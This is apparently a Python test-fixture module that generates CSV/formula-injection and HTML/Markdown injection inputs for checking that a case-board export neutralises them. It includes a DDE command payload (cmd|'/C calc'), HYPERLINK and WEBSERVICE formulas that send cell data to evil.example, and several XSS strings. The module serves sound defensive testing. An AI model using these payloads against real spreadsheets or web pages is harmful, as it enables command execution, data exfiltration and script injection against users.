"""Cases whose every word would like to be a formula, a tag or a link once they are exported."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from itertools import product
from typing import Any

from csboard.domain.case_words import LABELS
from csboard.domain.knowledge import Success
from csboard.domain.records import Member, Role, Tags
from csboard.domain.sheet import SheetRow, Standing
from csboard.domain.sheet_export import Selection

NOW = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)
BEFORE = (
    *("", " ", "\u3000", "\xa0", "\t", "\r", "\n", " \n\t ", "\u200b", "\ufeff", "\u2028"),
    "\u00ad",
)
STARTERS = "=+-@＝＋－＠﹦﹢﹣﹫\N{MINUS SIGN}\N{SUPERSCRIPT EQUALS SIGN}"
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1;"here")',
    'WEBSERVICE("http://evil.example/")',
)
FORMULAS = tuple(
    before + starter + body for before, starter, body in product(BEFORE, STARTERS, BODIES)
)
MARKUP = (
    "<script>alert(1)</script>",
    "</p><img src=x onerror=alert(1)>",
    '"><a href="javascript:alert(1)">x</a>',
    "</title></style><style>*{display:none}",
    "<!-- ]]> --!><svg/onload=alert(1)>",
    "&lt;b&gt;&#60;b&#62;&amp;amp;",
    "</article></body></html><h1>x</h1>",
    "[x](javascript:alert(1)) ![y](http://evil.example/y.png) <http://evil.example>",
    "# x\n## y\n- z\n1. w\n> v\n| a | b |\n|---|---|\n***\n```\ncode\n````\n~~~",
    "```\n</code>\n```\n[x]: http://evil.example\n[x]",
    "http://evil.example/ www.evil.example <b>b</b> `c` *d* _e_ ~f~",
    "\x1b[2J\x1b]0;t\x07\u202e\ud800\ufffe",
    "e\u0301" * 40,
)
HARMLESS = "plain words"


def row_of(number: int, words: str) -> SheetRow:
    """A case that says the same in each of its fields."""
    texts: dict[str, Any] = dict.fromkeys(("title", *LABELS), words)
    success = Success(number, 1000 + number, "sato", NOW, tags=Tags((words,), (words,)), **texts)
    return SheetRow(success, success.number, None, Standing(1, 2, 3, NOW), False)


def selection_of(*texts: str, name: str = "Sato") -> Selection:
    """The cases that say these words, by a member of that name."""
    rows = tuple(row_of(number, text) for number, text in enumerate(texts, 1))
    return Selection(rows, {"sato": Member(1, "sato", name, Role.MEMBER)}, "Asia/Tokyo", NOW)


class Structure(HTMLParser):
    """The tags of a page with their attributes, and all its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.others: list[str] = []
        self._text: list[str] = []
        self.feed(page)
        self.close()

    @property
    def text(self) -> str:
        return "".join(self._text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_data(self, data: str) -> None:
        self._text.append(data)


def foreign_tags(page: str, harmless: str) -> int:
    """How many tags or comments a page has more, or other, than one of harmless words."""
    ours, theirs = Structure(harmless), Structure(page)
    other = sum(one != two for one, two in zip(ours.tags, theirs.tags, strict=False))
    return other + abs(len(ours.tags) - len(theirs.tags)) + len(theirs.others)


def foreign_blocks(markdown: str, harmless: str) -> int:
    """How many pieces of Markdown stand for something else than in one of harmless words."""
    ours, theirs = list(_pieces(harmless)), list(_pieces(markdown))
    return sum(piece not in set(ours) for piece in theirs) + abs(
        sum(map("heading_open".__eq__, ours)) - sum(map("heading_open".__eq__, theirs))
    )


def _pieces(markdown: str) -> Iterator[str]:
    from markdown_it import MarkdownIt

    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        yield token.type
        yield from (inner.type for inner in token.children or () if inner.type != "hardbreak")
